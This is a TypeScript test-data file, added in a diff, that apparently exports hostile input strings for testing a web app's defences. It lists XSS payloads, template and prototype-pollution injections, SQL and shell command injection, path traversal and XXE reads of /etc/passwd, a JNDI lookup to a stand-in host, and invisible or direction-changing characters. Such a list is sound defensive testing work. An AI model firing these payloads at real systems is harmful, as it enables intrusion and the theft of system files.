@@ -1,0 +1,67 @@
+const run = 'window.intruder=1';
+
+/** Texts that people with bad intentions write; each that runs sets `intruder` on the window, or `polluted` on all objects. */
+export const hostileTexts: readonly string[] = [
+  // Ways to have a page run a script out of a text.
+  ...['', '">', "'>", '-->', '</title>', '</style>', '</textarea>', '<svg>', '<math>'].map(
+    (before) => `${before}<script>${run}</script>`,
+  ),
+  ...[
+    'img src=x onerror',
+    'svg onload',
+    'details open ontoggle',
+    'input autofocus onfocus',
+  ].flatMap((tag) => [
+    `<${tag}=${run}>`,
+    `"><${tag.toUpperCase()}="${run}"//`,
+    `<x/><${tag}\f=${run}>`,
+  ]),
+  ...['"', "'", '`'].map((quote) => `${quote} onfocus=${run} autofocus x=${quote}`),
+  ...['javascript:', 'JaVa\tScRiPt:', '\u0001javascript:'].map((scheme) => `${scheme}${run}`),
+  `data:text/html,<script>${run}</script>`,
+  `<a href="javascript:${run}">press</a>`,
+  `<form action="javascript:${run}"><button>press</button></form>`,
+  `<iframe srcdoc="<script>parent.intruder=1</script>"></iframe>`,
+  `<base href="https://elsewhere.example/">`,
+  `<meta http-equiv="refresh" content="0;url=javascript:${run}">`,
+  `<template shadowrootmode="open"><script>${run}</script></template>`,
+  `&lt;script&gt;${run}&lt;/script&gt;`,
+  `%3Cscript%3E${run}%3C/script%3E`,
+  `\\u003cscript\\u003e${run}\\u003c/script\\u003e`,
+  `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
+  // Texts that a template would work out, ours among them.
+  ...['{{', '${', '#{', '<%=', '$t('].map(
+    (begin) => `${begin}constructor.constructor('${run}')()}}`,
+  ),
+  '{{App_Name}} $t(Contact_Us, {"count": 2}) <0>App_Name</0>',
+  // Names and texts that would change what all objects have.
+  ...['__proto__', 'constructor', 'toString'].flatMap((name) => [
+    name,
+    `${name}[polluted]=1`,
+    `{"${name}":{"polluted":1}}`,
+  ]),
+  '{"constructor":{"prototype":{"polluted":1}}}',
+  'null',
+  'undefined',
+  '[object Object]',
+  '-1e999',
+  // Characters that end texts, turn them around, or are not seen.
+  ...Array.from(
+    '\0\x07\x1B\x7F\u0085\u00A0\u00AD\u061C\u200B\u200D\u200F\u2028\u2029\u202B\u202E\u2060\u2066\uFEFF\uFFFC\uFFFF\u{E0001}',
+  ).map((character) => `a${character}exe.${character}ب`),
+  '\u0301'.repeat(60),
+  '👩🏽‍🔧𓀀ﷺ',
+  // What other programs than a browser would read as theirs.
+  "'; DROP TABLE lifts; --",
+  '=HYPERLINK("https://elsewhere.example","open")',
+  '$(touch /tmp/intruder) `touch /tmp/intruder`; cat /etc/passwd',
+  '../../../../etc/passwd ..\\..\\windows\\win.ini file:///etc/passwd',
+  '=?UTF-8?Q?=42cc:_a=40b.co?=',
+  'a@b.co%0d%0aBcc: c@d.co',
+  '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]>&b;',
+  '${jndi:ldap://elsewhere.example/a} %n%n%n%s%x',
+  '.',
+  '%',
+  'م'.repeat(700),
+  'x'.repeat(1500),
+];
